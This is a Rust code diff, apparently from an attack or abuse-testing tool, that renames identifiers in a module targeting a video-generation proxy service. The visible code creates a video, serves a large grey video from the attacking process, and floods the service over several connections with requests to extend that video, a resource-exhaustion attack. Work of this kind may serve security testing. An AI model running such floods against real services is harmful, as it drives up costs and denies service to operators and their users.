@@ -14,7 +14,7 @@ use crate::http::request;
 
 const CONNECTIONS: usize = 4;
 /// Deadline for the short video that the hostile caller needs.
-const OWN_VIDEO: Duration = Duration::from_mins(5);
+const OWN_VIDEO_DEADLINE: Duration = Duration::from_mins(5);
 const SIZE: Size = Size { width: 1920, height: 1088 };
 /// Frames of a group, which begins with a key frame. All groups are the same, to make encoding fast.
 const GROUP: usize = 24;
@@ -23,7 +23,7 @@ const GROUPS: usize = 300;
 
 /// Repeatedly submits a video to be extended. The service fetches it from this process, as from any other server.
 pub async fn extend(target: &Rc<AttackTarget>) {
-    let Some(video_id) = own_video(target).await else { return };
+    let Some(video_id) = create_own_video(target).await else { return };
     let url = serve(grey_video()).await;
     let token = target.account.token.clone();
     flood(target, CONNECTIONS, move |iteration| {
@@ -41,12 +41,12 @@ pub async fn extend(target: &Rc<AttackTarget>) {
 
 /// Creates a short video, because only callers with a video may extend one, and returns its id. `None` if it was
 /// rejected.
-async fn own_video(target: &AttackTarget) -> Option<String> {
+async fn create_own_video(target: &AttackTarget) -> Option<String> {
     let body = json!({"prompt": "hills", "model": "vq2-turbo", "duration": 1, "resolution": "540p"});
     let task = post(target, "/proxy/videovendor/start-end2video", &body).await?;
     let path = format!("/proxy/videovendor/tasks/{}/creations", task["task_id"].as_str()?);
     let started = Instant::now();
-    while started.elapsed() < OWN_VIDEO {
+    while started.elapsed() < OWN_VIDEO_DEADLINE {
         let mut connection = target.connect().await?;
         let response = connection.try_exchange(&request("GET", &path, &target.account.token, "")).await.ok()?;
         let creations: Value = serde_json::from_slice(response.body).ok()?;
